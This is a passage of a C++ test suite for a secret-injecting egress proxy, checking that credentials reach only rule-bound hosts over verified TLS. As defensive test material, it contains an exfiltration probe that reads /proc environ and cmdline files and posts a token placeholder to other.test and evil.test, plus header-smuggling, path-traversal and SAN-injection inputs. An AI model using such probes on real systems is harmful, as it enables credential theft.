// Secrets added at the egress proxy (issue 27, DESIGN.md invariant 11): the rules as pure
// functions, then the proxy in front of fake upstreams (a bound host over real TLS with a test
// certificate, another host over plain HTTP) spoken to over its unix socket as the sandbox's bridge
// does, then a sandboxed phase that holds only the placeholder and probes for the value.
#include <openssl/pem.h>
#include <openssl/ssl.h>
#include <openssl/x509.h>
#include <openssl/x509v3.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <utility>

#include <nlohmann/json.hpp>

#include "../fakes/spawn_fake.h"
#include "inference_fixture.h"
#include "proxy/egress_policy.h"
#include "proxy/unit_ca.h"

namespace aw {
namespace {

// Fake tokens shaped like real ones; never real credentials.
const std::string kNpmToken = "npm_FAKEfakeFAKEfakeFAKEfakeFAKEfake0123";
const std::string kPlaceholder = "awaywork-placeholder-NPM_TOKEN-0123456789abcdef0123456789abcdef";
const std::string kGitPass = "glpat-FAKEfakeFAKEfake1234";

EgressInjection npm_rule() {
  EgressInjection r;
  r.secret = "NPM_TOKEN";
  r.value = kNpmToken;
  r.host = "npm.example.test";
  r.methods = {"GET", "HEAD"};
  r.paths = {"/pkg/"};
  return r;
}

TEST(IsolateEgressInject, RulesMatchTheirHostMethodAndPlainPathOnly) {
  std::vector<EgressInjection> rules = {npm_rule()};
  EXPECT_TRUE(bound_host(rules, "NPM.example.test."));
  EXPECT_FALSE(bound_host(rules, "example.test"));
  EXPECT_EQ(bound_headers(rules, "npm.example.test."), std::vector<std::string>{"Authorization"});
  EXPECT_TRUE(bound_headers(rules, "other.test").empty());
  EXPECT_EQ(matching_injections(rules, "npm.example.test", "GET", "/pkg/left-pad?x=1").size(), 1u);
  EXPECT_EQ(matching_injections(rules, "Npm.Example.Test", "HEAD", "/pkg/").size(), 1u);
  EXPECT_TRUE(matching_injections(rules, "npm.example.test", "POST", "/pkg/a").empty());
  EXPECT_TRUE(matching_injections(rules, "npm.example.test", "GET", "/admin").empty());
  EXPECT_TRUE(matching_injections(rules, "npm.example.test", "GET", "/pkg/../admin").empty());
  EXPECT_TRUE(matching_injections(rules, "npm.example.test", "GET", "/pkg/%2e%2e/admin").empty());
  EXPECT_TRUE(matching_injections(rules, "npm.example.test", "GET", "/pkg/..").empty());
  EXPECT_TRUE(matching_injections(rules, "127.0.0.1", "GET", "/pkg/a").empty());
  EXPECT_TRUE(matching_injections(rules, "npm.example.test.evil.org", "GET", "/pkg/a").empty());
  EgressInjection any = npm_rule();
  any.methods.clear();
  any.paths.clear();
  EXPECT_EQ(matching_injections({any}, "npm.example.test", "DELETE", "/x/../y").size(), 1u);
}

TEST(IsolateEgressInject, ValuesAreTheTemplateOrBasicCredentials) {
  EgressInjection r = npm_rule();
  EXPECT_EQ(injected_value(r), "Bearer " + kNpmToken);
  r.value_template = "{secret}";
  EXPECT_EQ(injected_value(r), kNpmToken);
  r.basic_user = "deploy";
  r.value = kGitPass;
  EXPECT_EQ(injected_value(r), "Basic ZGVwbG95OmdscGF0LUZBS0VmYWtlRkFLRWZha2UxMjM0");
}

TEST(IsolateEgressInject, APlaceholderGoesOnlyToItsOwnRulesHostAndNeverIntoATunnel) {
  std::vector<EgressInjection> rules = {npm_rule()};
  std::map<std::string, std::string> ph = {{kPlaceholder, "NPM_TOKEN"}};
  std::string head = "GET / HTTP/1.1\r\nAuthorization: Bearer " + kPlaceholder + "\r\n\r\n";
  EXPECT_EQ(stray_placeholder(ph, rules, "npm.example.test", false, head), std::nullopt);
  EXPECT_EQ(stray_placeholder(ph, rules, "other.test", false, head), "NPM_TOKEN");
  EXPECT_EQ(stray_placeholder(ph, rules, "npm.example.test", true, head), "NPM_TOKEN");
  EXPECT_EQ(stray_placeholder(ph, rules, "other.test", false, "GET /?t=" + kPlaceholder),
            "NPM_TOKEN");
  EXPECT_EQ(stray_placeholder(ph, rules, "other.test", false, "GET / HTTP/1.1\r\n\r\n"),
            std::nullopt);
}

struct InjectFixture : ::testing::Test {
  test::TempDir dir;
  test::TestCert cert;
  std::unique_ptr<test::FakeModelUpstream> bound, other;
  std::unique_ptr<EgressProxy> proxy;
  std::mutex mu;
  std::vector<std::string> log;
  std::vector<std::string> replies;

  void SetUp() override {
    cert = test::make_test_cert(dir.path, "npm", {"npm.example.test"});
    ASSERT_FALSE(cert.cert.empty()) << "the openssl CLI made no certificate";
    bound = std::make_unique<test::FakeModelUpstream>(cert);
    other = std::make_unique<test::FakeModelUpstream>();  // plain HTTP
  }

  void start(std::vector<EgressInjection> rules = {npm_rule()}) {
    EgressProxyOptions o;
    o.socket_path = dir.path + "/egress.sock";
    // wrong.test is bound, but its server's certificate names only npm.example.test.
    o.allow = {"npm.example.test", "other.test", "wrong.test"};
    o.static_hosts = {{"npm.example.test", "127.0.0.1"},
                      {"other.test", "127.0.0.1"},
                      {"wrong.test", "127.0.0.1"}};
    o.allow_private_upstream = true;
    o.inject = std::move(rules);
    o.placeholders = {{kPlaceholder, "NPM_TOKEN"}};
    o.ca_file = cert.cert;
    o.log = [this](const std::string& line) {
      std::lock_guard<std::mutex> l(mu);
      log.push_back(line);
    };
    auto p = EgressProxy::start(o);
    ASSERT_TRUE(p) << p.error().message;
    proxy = std::move(*p);
  }

  std::string roundtrip(const std::string& send) {
    int s = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_un a{};
    a.sun_family = AF_UNIX;
    std::strncpy(a.sun_path, proxy->socket_path().c_str(), sizeof a.sun_path - 1);
    EXPECT_EQ(::connect(s, reinterpret_cast<sockaddr*>(&a), sizeof a), 0);
    send_all(s, send);
    std::string got;
    test::drain(s, got);
    ::close(s);
    replies.push_back(got);
    return got;
  }

  // A request as an HTTP client sends it to its proxy: the absolute URL, then the headers.
  std::string get(const std::string& host, uint16_t port, const std::string& path,
                  const std::vector<std::string>& headers = {}, const std::string& method = "GET") {
    std::string hp = fmt::format("{}:{}", host, port);
    std::string r = fmt::format("{} http://{}{} HTTP/1.1\r\nHost: {}\r\n", method, hp, path, hp);
    for (const auto& h : headers) r += h + "\r\n";
    return roundtrip(r + "\r\n");
  }

  std::vector<std::string> lines() {
    std::lock_guard<std::mutex> l(mu);
    return log;
  }

  // The value in nothing the phase or the record sees: replies and log lines.
  void expect_value_nowhere() {
    for (const auto& r : replies) EXPECT_EQ(r.find(kNpmToken), std::string::npos) << r;
    for (const auto& l : lines()) EXPECT_EQ(l.find(kNpmToken), std::string::npos) << l;
  }
};

using IsolateEgressInjectProxy = InjectFixture;

size_t count(const std::string& text, const std::string& part) {
  size_t n = 0;
  for (size_t p = text.find(part); p != std::string::npos; p = text.find(part, p + 1)) ++n;
  return n;
}

TEST_F(IsolateEgressInjectProxy, TheBoundHostGetsTheSecretOverVerifiedTlsInPlaceOfThePlaceholder) {
  start();
  std::string got = get("npm.example.test", bound->port(), "/pkg/left-pad",
                        {"Authorization: Bearer " + kPlaceholder});
  EXPECT_EQ(got.rfind("HTTP/1.1 404", 0), 0u) << got;  // the fake's answer, relayed
  auto seen = bound->seen();
  ASSERT_EQ(seen.size(), 1u);
  EXPECT_EQ(seen[0].target, "/pkg/left-pad");
  EXPECT_NE(seen[0].head.find("Authorization: Bearer " + kNpmToken + "\r\n"), std::string::npos)
      << seen[0].head;
  EXPECT_EQ(count(seen[0].head, "Authorization:"), 1u) << "the phase's own copy is dropped";
  EXPECT_EQ(seen[0].head.find(kPlaceholder), std::string::npos);
  auto l = lines();
  ASSERT_EQ(l.size(), 1u);
  EXPECT_NE(l[0].find(R"("injected":"NPM_TOKEN")"), std::string::npos) << l[0];
  expect_value_nowhere();
}

TEST_F(IsolateEgressInjectProxy, NoSecretOutsideTheRulesMethodPathOrHost) {
  start();
  get("npm.example.test", bound->port(), "/pkg/a", {}, "POST");
  get("npm.example.test", bound->port(), "/admin");
  get("npm.example.test", bound->port(), "/pkg/../admin");
  get("other.test", other->port(), "/pkg/a");
  auto seen = bound->seen();
  ASSERT_EQ(seen.size(), 3u) << "a bound host is still reached, over TLS, without the secret";
  for (const auto& s : seen) EXPECT_EQ(s.head.find(kNpmToken), std::string::npos) << s.head;
  auto plain = other->seen();
  ASSERT_EQ(plain.size(), 1u);
  EXPECT_EQ(plain[0].head.find(kNpmToken), std::string::npos) << plain[0].head;
  for (const auto& l : lines()) EXPECT_EQ(l.find("injected"), std::string::npos) << l;
  expect_value_nowhere();
}

// An exclusive rule (the read-only forge, agent_forge: read) makes its host take nothing else:
// a request outside the rule is refused at the proxy, not sent on without the secret.
TEST_F(IsolateEgressInjectProxy, AnExclusiveRulesHostTakesNothingOutsideIt) {
  EgressInjection only = npm_rule();
  only.exclusive = true;
  only.exact_paths = {"/pkg"};
  start({only});
  std::string got = get("npm.example.test", bound->port(), "/pkg");
  EXPECT_EQ(got.rfind("HTTP/1.1 404", 0), 0u) << got;  // the exact path: sent, with the secret
  for (const auto& [method, path] : std::vector<std::pair<std::string, std::string>>{
           {"POST", "/pkg/a"}, {"GET", "/admin"}, {"GET", "/pkg/../admin"}, {"GET", "/pkgx"}}) {
    got = get("npm.example.test", bound->port(), path, {}, method);
    EXPECT_EQ(got.rfind("HTTP/1.1 403", 0), 0u) << method << " " << path << ": " << got;
    EXPECT_NE(got.find("X-Awaywork-Refused: deny outside-rule NPM_TOKEN"), std::string::npos)
        << got;
  }
  auto seen = bound->seen();
  ASSERT_EQ(seen.size(), 1u) << "only the rule's request reached the host";
  EXPECT_EQ(seen[0].target, "/pkg");
  EXPECT_NE(seen[0].head.find("Authorization: Bearer " + kNpmToken), std::string::npos);
  // Another host is not bound by it.
  get("other.test", other->port(), "/pkg/a", {}, "POST");
  EXPECT_EQ(other->seen().size(), 1u);
  size_t refused = 0;
  for (const auto& l : lines())
    if (l.find(R"("rule":"deny outside-rule NPM_TOKEN")") != std::string::npos) {
      ++refused;
      EXPECT_EQ(l.find("injected"), std::string::npos) << l;
    }
  EXPECT_EQ(refused, 4u);
  expect_value_nowhere();
}

TEST_F(IsolateEgressInjectProxy, APlaceholderSentElsewhereIsRefusedAndLogged) {
  start();
  std::string got = get("other.test", other->port(), "/collect?k=" + kPlaceholder);
  EXPECT_EQ(got.rfind("HTTP/1.1 403", 0), 0u) << got;
  EXPECT_NE(got.find("X-Awaywork-Refused: deny placeholder-exfiltration NPM_TOKEN"),
            std::string::npos)
      << got;
  got = get("other.test", other->port(), "/", {"X-Leak: " + kPlaceholder});
  EXPECT_EQ(got.rfind("HTTP/1.1 403", 0), 0u) << got;
  // Through a tunnel the proxy could not read, the bound host's own placeholder is refused too.
  got =
      roundtrip(fmt::format("CONNECT npm.example.test:{} HTTP/1.1\r\nProxy-Authorization: "
                            "Basic {}\r\n\r\n",
                            bound->port(), kPlaceholder));
  EXPECT_EQ(got.rfind("HTTP/1.1 403", 0), 0u) << got;
  // A host not even allowed: refused as an exfiltration attempt all the same.
  got = get("evil.test", 80, "/", {"Authorization: Bearer " + kPlaceholder});
  EXPECT_NE(got.find("deny placeholder-exfiltration NPM_TOKEN"), std::string::npos) << got;
  EXPECT_TRUE(other->seen().empty());
  EXPECT_TRUE(bound->seen().empty());
  auto l = lines();
  ASSERT_EQ(l.size(), 4u);
  for (const auto& line : l)
    EXPECT_NE(line.find(R"("rule":"deny placeholder-exfiltration NPM_TOKEN")"), std::string::npos)
        << line;
  for (const auto& line : l) EXPECT_EQ(line.find(kPlaceholder), std::string::npos) << line;
  expect_value_nowhere();
}

TEST_F(IsolateEgressInjectProxy, AnInjectedAgentCannotRedirectTheSecret) {
  start();
  // Another Host header than the URL's: refused before anything goes upstream.
  std::string hp = fmt::format("npm.example.test:{}", bound->port());
  std::string got = roundtrip(fmt::format(
      "GET http://{}/pkg/a HTTP/1.1\r\nHost: other.test:{}\r\n\r\n", hp, other->port()));
  EXPECT_NE(got.find("deny host-header-mismatch"), std::string::npos) << got;
  // A bare line break could make a header the proxy never saw.
  got =
      roundtrip(fmt::format("GET http://{}/pkg/a HTTP/1.1\r\nHost: {}\r\nX-A: b\nHost: "
                            "other.test\r\n\r\n",
                            hp, hp));
  EXPECT_NE(got.find("deny bare-line-break"), std::string::npos) << got;
  // The IP literal of the same server is no rule's host (and not allowed).
  got = get("127.0.0.1", bound->port(), "/pkg/a");
  EXPECT_EQ(got.rfind("HTTP/1.1 403", 0), 0u) << got;
  EXPECT_TRUE(bound->seen().empty());
  // A bound host whose server cannot prove it is that host gets nothing: the handshake fails
  // before a byte of the request is written.
  EgressInjection wrong = npm_rule();
  wrong.host = "wrong.test";
  proxy.reset();
  start({npm_rule(), wrong});
  got = get("wrong.test", bound->port(), "/pkg/a");
  EXPECT_NE(got.find("deny upstream-tls-unverified"), std::string::npos) << got;
  EXPECT_TRUE(bound->seen().empty());
  expect_value_nowhere();
}

// ---- from inside a sandbox: the phase holds the placeholder, never the value ----

// Prints what a phase can read (its environment, every /proc entry it can open, the files in its
// folders), then asks the bound host (through HTTP_PROXY, as npm would) and tries to send the
// placeholder elsewhere. The test looks for the value in all of it.
constexpr const char* kPhase = R"(
import glob, os, sys, urllib.request, urllib.error
seen = []
seen += [k + '=' + v for k, v in os.environ.items()]
for p in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline'):
    try:
        seen.append(open(p, 'rb').read().decode('latin-1'))
    except OSError:
        pass
for root in (os.getcwd(),):
    for d, _, files in os.walk(root):
        for f in files:
            try:
                seen.append(open(os.path.join(d, f), 'rb').read(1 << 20).decode('latin-1'))
            except OSError:
                pass
print('SEEN', len(seen), '\n'.join(seen))
def ask(url, headers):
    try:
        r = urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=20)
        return str(r.status)
    except urllib.error.HTTPError as e:
        return '%d %s' % (e.code, e.headers.get('X-Awaywork-Refused'))
tok = os.environ['NPM_TOKEN']
print('BOUND', ask('http://npm.example.test:%s/pkg/left-pad' % sys.argv[1],
                   {'Authorization': 'Bearer ' + tok}))
print('ELSEWHERE', ask('http://other.test:%s/x' % sys.argv[2], {'Authorization': 'Bearer ' + tok}))
)";

TEST_F(IsolateEgressInjectProxy, APhaseHoldsThePlaceholderAndTheUpstreamGetsTheValue) {
  start();
  std::string clone = dir.path + "/clone";
  ASSERT_TRUE(make_dirs(clone));
  SandboxPlan plan;
  plan.network = Network::allowlist;
  plan.proxy_socket = proxy->socket_path();
  plan.writable = {clone};
  plan.apply_limits = false;
  auto r = test::run_with(
      make_sandbox_launcher(plan),
      {"python3", "-c", kPhase, std::to_string(bound->port()), std::to_string(other->port())},
      clone,
      {"PATH=/usr/local/bin:/usr/bin:/bin", "HOME=/nonexistent", "LANG=C",
       "NPM_TOKEN=" + kPlaceholder});
  ASSERT_TRUE(r.started) << r.start_error;
  EXPECT_EQ(r.exit_code(), 0) << r.err;
  EXPECT_NE(r.out.find("NPM_TOKEN=" + kPlaceholder), std::string::npos) << "the probe ran";
  EXPECT_EQ(r.out.find(kNpmToken), std::string::npos) << "the value reached the phase";
  EXPECT_EQ(r.err.find(kNpmToken), std::string::npos);
  std::string tail = r.out.substr(r.out.size() > 300 ? r.out.size() - 300 : 0);
  EXPECT_NE(r.out.find("\nBOUND 404 None\n"), std::string::npos) << tail << r.err;
  EXPECT_NE(r.out.find("\nELSEWHERE 403 deny placeholder-exfiltration NPM_TOKEN\n"),
            std::string::npos)
      << tail;
  auto seen = bound->seen();
  ASSERT_EQ(seen.size(), 1u);
  EXPECT_NE(seen[0].head.find("Authorization: Bearer " + kNpmToken), std::string::npos)
      << "positive control: the value exists, and went where the rule says";
  EXPECT_TRUE(other->seen().empty());
}

// ---- https:// to a bound host: the proxy terminates TLS with the unit's CA ----

X509* load_pem(const std::string& pem) {
  BIO* b = BIO_new_mem_buf(pem.data(), static_cast<int>(pem.size()));
  X509* x = PEM_read_bio_X509(b, nullptr, nullptr, nullptr);
  BIO_free(b);
  return x;
}

// OpenSSL's own verdict on leaf under ca, checking host: X509_V_OK or why not.
int verify_leaf(const std::string& ca_pem, const std::string& leaf_pem, const std::string& host) {
  X509* ca = load_pem(ca_pem);
  X509* leaf = load_pem(leaf_pem);
  if (!ca || !leaf) return -1;
  X509_STORE* store = X509_STORE_new();
  X509_STORE_add_cert(store, ca);
  X509_STORE_CTX* ctx = X509_STORE_CTX_new();
  X509_STORE_CTX_init(ctx, store, leaf, nullptr);
  X509_VERIFY_PARAM_set1_host(X509_STORE_CTX_get0_param(ctx), host.c_str(), 0);
  int ok = X509_verify_cert(ctx);
  int err = ok == 1 ? X509_V_OK : X509_STORE_CTX_get_error(ctx);
  X509_STORE_CTX_free(ctx);
  X509_STORE_free(store);
  X509_free(leaf);
  X509_free(ca);
  return err;
}

TEST(IsolateEgressInjectCa, LeavesVerifyForTheBoundHostsOnlyAndNoKeyLeavesTheCa) {
  auto ca = UnitCa::make({"npm.example.test"});
  ASSERT_TRUE(ca) << ca.error().message;
  auto leaf = (*ca)->issue("npm.example.test");
  ASSERT_TRUE(leaf) << leaf.error().message;
  EXPECT_EQ(verify_leaf((*ca)->cert_pem(), *leaf, "npm.example.test"), X509_V_OK);
  EXPECT_NE(verify_leaf((*ca)->cert_pem(), *leaf, "other.test"), X509_V_OK);
  // Name-constrained: a leaf for any other host does not verify, whoever made the CA sign it.
  auto stray = (*ca)->issue("other.test");
  ASSERT_TRUE(stray);
  EXPECT_EQ(verify_leaf((*ca)->cert_pem(), *stray, "other.test"), X509_V_ERR_PERMITTED_VIOLATION);
  // Another unit's CA vouches for nothing of this one's.
  auto other = UnitCa::make({"npm.example.test"});
  ASSERT_TRUE(other);
  EXPECT_NE(verify_leaf((*other)->cert_pem(), *leaf, "npm.example.test"), X509_V_OK);
  EXPECT_NE((*other)->cert_pem(), (*ca)->cert_pem());
  EXPECT_FALSE(UnitCa::make({}));
  EXPECT_FALSE(UnitCa::make({"127.0.0.1"}));
  EXPECT_FALSE((*ca)->issue("a,DNS:evil.test"));
  // What the phase gets: certificates only, the system's then the unit's.
  std::string bundle = ca_bundle_text(**ca);
  EXPECT_EQ(bundle.find("PRIVATE KEY"), std::string::npos);
  EXPECT_EQ((*ca)->cert_pem().find("PRIVATE KEY"), std::string::npos);
  EXPECT_TRUE(bundle.ends_with((*ca)->cert_pem()));
  test::TempDir dir;
  ASSERT_TRUE(write_ca_bundle(dir.path + "/b.pem", **ca));
  struct stat st {};
  ASSERT_EQ(::stat((dir.path + "/b.pem").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0644u);
  EXPECT_EQ(ca_bundle_env_names().size(), 7u);
}

// A real curl in the sandbox (HTTPS_PROXY is the proxy's bridge), trusting trust_pem through
// CURL_CA_BUNDLE (one of the variables the unit sets); prints "STATUS <code>" last.
struct HttpsInjectFixture : InjectFixture {
  test::Ran curl(const std::string& trust_pem, std::vector<std::string> args) {
    std::string clone = dir.path + "/clone";
    EXPECT_TRUE(make_dirs(clone));
    EXPECT_TRUE(write_file(clone + "/ca.pem", trust_pem, 0644));
    SandboxPlan plan;
    plan.network = Network::allowlist;
    plan.proxy_socket = proxy->socket_path();
    plan.writable = {clone};
    plan.apply_limits = false;
    std::vector<std::string> argv = {"curl", "-sS", "--max-time",
                                     "20",   "-w",  "\nSTATUS %{http_code}\n"};
    argv.insert(argv.end(), args.begin(), args.end());
    test::Ran r =
        test::run_with(make_sandbox_launcher(plan), argv, clone,
                       {"PATH=/usr/local/bin:/usr/bin:/bin", "HOME=/nonexistent", "LANG=C",
                        "CURL_CA_BUNDLE=" + clone + "/ca.pem", "NPM_TOKEN=" + kPlaceholder});
    EXPECT_TRUE(r.started) << r.start_error;
    EXPECT_EQ(r.out.find(kNpmToken), std::string::npos) << "the value reached the phase";
    EXPECT_EQ(r.err.find(kNpmToken), std::string::npos);
    return r;
  }

  std::string url(const std::string& host, uint16_t port, const std::string& path) {
    return fmt::format("https://{}:{}{}", host, port, path);
  }
};

using IsolateEgressInjectHttps = HttpsInjectFixture;

TEST_F(IsolateEgressInjectHttps, CurlOverHttpsToTheBoundHostGetsTheSecretAdded) {
  bound.reset();
  bound = std::make_unique<test::FakeModelUpstream>(
      cert, test::FakeUpstreamOptions{0, 0, "Bearer " + kNpmToken, ""});
  start();
  ASSERT_NE(proxy->ca_cert_pem().find("BEGIN CERTIFICATE"), std::string::npos);
  auto r = curl(proxy->ca_cert_pem(), {"-H", "Authorization: Bearer " + kPlaceholder,
                                       url("npm.example.test", bound->port(), "/pkg/left-pad")});
  EXPECT_EQ(r.exit_code(), 0) << r.err;
  EXPECT_NE(r.out.find("private ok\n"), std::string::npos) << r.out << r.err;
  EXPECT_NE(r.out.find("\nSTATUS 200\n"), std::string::npos) << r.out << r.err;
  auto seen = bound->seen();
  ASSERT_EQ(seen.size(), 1u);
  EXPECT_EQ(seen[0].target, "/pkg/left-pad");
  EXPECT_NE(seen[0].head.find("Authorization: Bearer " + kNpmToken + "\r\n"), std::string::npos)
      << seen[0].head;
  EXPECT_EQ(count(seen[0].head, "Authorization:"), 1u) << "the phase's own copy is dropped";
  EXPECT_EQ(seen[0].head.find(kPlaceholder), std::string::npos);
  auto l = lines();
  ASSERT_EQ(l.size(), 1u);
  EXPECT_NE(l[0].find(R"("method":"GET","host":"npm.example.test")"), std::string::npos) << l[0];
  EXPECT_NE(l[0].find(R"("path":"/pkg/left-pad")"), std::string::npos) << l[0];
  EXPECT_NE(l[0].find(R"("injected":"NPM_TOKEN")"), std::string::npos) << l[0];
  // Outside the rule's methods: the host is reached, without the secret.
  r = curl(proxy->ca_cert_pem(),
           {"-X", "DELETE", url("npm.example.test", bound->port(), "/pkg/a")});
  EXPECT_NE(r.out.find("\nSTATUS 401\n"), std::string::npos) << r.out << r.err;
  // A phase that does not trust the unit's CA gets nothing: its own client refuses the handshake.
  r = curl(*read_file(cert.cert), {url("npm.example.test", bound->port(), "/pkg/left-pad")});
  EXPECT_NE(r.exit_code(), 0) << r.out;
  EXPECT_EQ(bound->seen().size(), 2u);
  expect_value_nowhere();
}

TEST_F(IsolateEgressInjectHttps, AHostWithoutARuleStaysATunnelAndGetsNoSecret) {
  test::TestCert plain_cert = test::make_test_cert(dir.path, "plain", {"other.test"});
  ASSERT_FALSE(plain_cert.cert.empty());
  test::FakeModelUpstream plain(plain_cert,
                                test::FakeUpstreamOptions{0, 0, "Bearer " + kNpmToken, ""});
  start();
  std::string trust = proxy->ca_cert_pem() + *read_file(plain_cert.cert);
  auto r = curl(trust, {"-H", "Authorization: Bearer " + kPlaceholder,
                        url("other.test", plain.port(), "/pkg/left-pad")});
  // The phase verified the server's own certificate (a tunnel), and got no secret added.
  EXPECT_EQ(r.exit_code(), 0) << r.err;
  EXPECT_NE(r.out.find("\nSTATUS 401\n"), std::string::npos) << r.out << r.err;
  auto seen = plain.seen();
  ASSERT_EQ(seen.size(), 1u);
  EXPECT_EQ(seen[0].head.find(kNpmToken), std::string::npos) << seen[0].head;
  for (const auto& l : lines()) EXPECT_EQ(l.find("injected"), std::string::npos) << l;
  expect_value_nowhere();
}

TEST_F(IsolateEgressInjectHttps, ARedirectToAnotherHostCarriesNoSecret) {
  bound.reset();
  bound = std::make_unique<test::FakeModelUpstream>(
      cert, test::FakeUpstreamOptions{0, 0, "Bearer " + kNpmToken,
                                      fmt::format("http://other.test:{}/landing", other->port())});
  start();
  auto r = curl(proxy->ca_cert_pem(), {"-L", "-H", "Authorization: Bearer " + kPlaceholder,
                                       url("npm.example.test", bound->port(), "/pkg/redirect")});
  EXPECT_NE(r.out.find("\nSTATUS 404\n"), std::string::npos) << r.out << r.err;
  ASSERT_EQ(bound->seen().size(), 1u);
  auto landed = other->seen();
  ASSERT_EQ(landed.size(), 1u);
  EXPECT_EQ(landed[0].target, "/landing");
  EXPECT_EQ(landed[0].head.find(kNpmToken), std::string::npos) << landed[0].head;
  // A client made to carry its headers along (--location-trusted) sends the placeholder to the
  // other host: refused there, and logged as an exfiltration attempt.
  r = curl(proxy->ca_cert_pem(),
           {"-L", "--location-trusted", "-H", "Authorization: Bearer " + kPlaceholder,
            url("npm.example.test", bound->port(), "/pkg/redirect")});
  EXPECT_NE(r.out.find("\nSTATUS 403\n"), std::string::npos) << r.out << r.err;
  EXPECT_EQ(other->seen().size(), 1u);
  bool logged = false;
  for (const auto& l : lines())
    logged = logged || l.find("deny placeholder-exfiltration NPM_TOKEN") != std::string::npos;
  EXPECT_TRUE(logged);
  expect_value_nowhere();
}

TEST_F(IsolateEgressInjectHttps, AnUpstreamThatCannotProveItsNameGetsNothing) {
  // A certificate for the right name from a CA nobody trusts.
  test::TestCert rogue_cert = test::make_test_cert(dir.path, "rogue", {"npm.example.test"});
  ASSERT_FALSE(rogue_cert.cert.empty());
  test::FakeModelUpstream rogue(rogue_cert);
  EgressInjection wrong = npm_rule();
  wrong.host = "wrong.test";
  start({npm_rule(), wrong});
  auto r = curl(proxy->ca_cert_pem(), {"-D", "-", "-H", "Authorization: Bearer " + kPlaceholder,
                                       url("npm.example.test", rogue.port(), "/pkg/left-pad")});
  EXPECT_NE(r.out.find("\nSTATUS 403\n"), std::string::npos) << r.out << r.err;
  EXPECT_NE(r.out.find("deny upstream-tls-unverified"), std::string::npos) << r.out;
  EXPECT_TRUE(rogue.seen().empty());
  // A trusted certificate for another name (wrong.test is served with npm.example.test's).
  r = curl(proxy->ca_cert_pem(), {"-D", "-", url("wrong.test", bound->port(), "/pkg/left-pad")});
  EXPECT_NE(r.out.find("deny upstream-tls-unverified"), std::string::npos) << r.out << r.err;
  EXPECT_TRUE(bound->seen().empty());
  expect_value_nowhere();
}

TEST_F(IsolateEgressInjectHttps, InsideTheTlsAnotherHostOrAStrayPlaceholderIsRefused) {
  start();
  // Host header naming another host than the CONNECT's.
  auto r = curl(proxy->ca_cert_pem(), {"-D", "-", "-H", "Host: other.test",
                                       url("npm.example.test", bound->port(), "/pkg/a")});
  EXPECT_NE(r.out.find("deny host-header-mismatch"), std::string::npos) << r.out << r.err;
  // Another secret's placeholder on its way to this host (that secret's rule is other.test's).
  const std::string other_ph = "awaywork-placeholder-GIT_PASSWORD-00000000000000000000000000000000";
  proxy.reset();
  {
    EgressInjection git = npm_rule();
    git.secret = "GIT_PASSWORD";
    git.host = "other.test";
    EgressProxyOptions opts;
    opts.socket_path = dir.path + "/egress.sock";
    opts.allow = {"npm.example.test", "other.test"};
    opts.static_hosts = {{"npm.example.test", "127.0.0.1"}, {"other.test", "127.0.0.1"}};
    opts.allow_private_upstream = true;
    opts.inject = {npm_rule(), git};
    opts.placeholders = {{kPlaceholder, "NPM_TOKEN"}, {other_ph, "GIT_PASSWORD"}};
    opts.ca_file = cert.cert;
    opts.log = [this](const std::string& line) {
      std::lock_guard<std::mutex> l(mu);
      log.push_back(line);
    };
    auto p = EgressProxy::start(opts);
    ASSERT_TRUE(p) << p.error().message;
    proxy = std::move(*p);
  }
  r = curl(proxy->ca_cert_pem(), {"-D", "-", "-H", "X-Other: " + other_ph,
                                  url("npm.example.test", bound->port(), "/pkg/a")});
  EXPECT_NE(r.out.find("deny placeholder-exfiltration GIT_PASSWORD"), std::string::npos)
      << r.out << r.err;
  EXPECT_TRUE(bound->seen().empty());
  expect_value_nowhere();
}

// ---- keep-alive inside the terminated TLS: several requests, each checked on its own ----

TEST_F(IsolateEgressInjectHttps, CurlReusesItsConnectionAndEachRequestGetsTheSecret) {
  bound.reset();
  bound = std::make_unique<test::FakeModelUpstream>(
      cert, test::FakeUpstreamOptions{0, 0, "Bearer " + kNpmToken, ""});
  start();
  // Two URLs of one origin: curl sends the second on the first's connection when it may.
  auto r = curl(proxy->ca_cert_pem(),
                {"-w", "\nSTATUS %{http_code} CONNECTS %{num_connects}\n", "-H",
                 "Authorization: Bearer " + kPlaceholder,
                 url("npm.example.test", bound->port(), "/pkg/a"),
                 url("npm.example.test", bound->port(), "/pkg/b")});
  EXPECT_EQ(r.exit_code(), 0) << r.err;
  EXPECT_NE(r.out.find("\nSTATUS 200 CONNECTS 1\n"), std::string::npos) << r.out << r.err;
  EXPECT_NE(r.out.find("\nSTATUS 200 CONNECTS 0\n"), std::string::npos)
      << "the second request reused the first's connection: " << r.out << r.err;
  EXPECT_EQ(count(r.out, "private ok\n"), 2u) << r.out;
  auto seen = bound->seen();
  ASSERT_EQ(seen.size(), 2u);
  EXPECT_EQ(seen[0].target, "/pkg/a");
  EXPECT_EQ(seen[1].target, "/pkg/b");
  for (const auto& s : seen) {
    EXPECT_NE(s.head.find("Authorization: Bearer " + kNpmToken + "\r\n"), std::string::npos)
        << s.head;
    EXPECT_EQ(count(s.head, "Authorization:"), 1u) << "the phase's own copy is dropped";
    EXPECT_EQ(s.head.find(kPlaceholder), std::string::npos);
  }
  EXPECT_EQ(bound->connections(), 1) << "the upstream connection is kept alive too";
  auto l = lines();
  ASSERT_EQ(l.size(), 2u);
  for (const auto& line : l)
    EXPECT_NE(line.find(R"("injected":"NPM_TOKEN")"), std::string::npos) << line;
  expect_value_nowhere();
}

// A client of the proxy's socket that CONNECTs to host:port and speaks TLS inside, trusting only
// trust_pem, as curl does; but every request is the test's own, so a later request on the same
// connection can say what curl would not. Reads give up after 20 s (a proxy that hangs fails).
class KeptTls {
 public:
  KeptTls(const std::string& socket_path, const std::string& host, uint16_t port,
          const std::string& trust_pem) {
    fd_ = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    timeval tv{20, 0};
    ::setsockopt(fd_, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    sockaddr_un a{};
    a.sun_family = AF_UNIX;
    std::strncpy(a.sun_path, socket_path.c_str(), sizeof a.sun_path - 1);
    if (::connect(fd_, reinterpret_cast<sockaddr*>(&a), sizeof a) != 0) return;
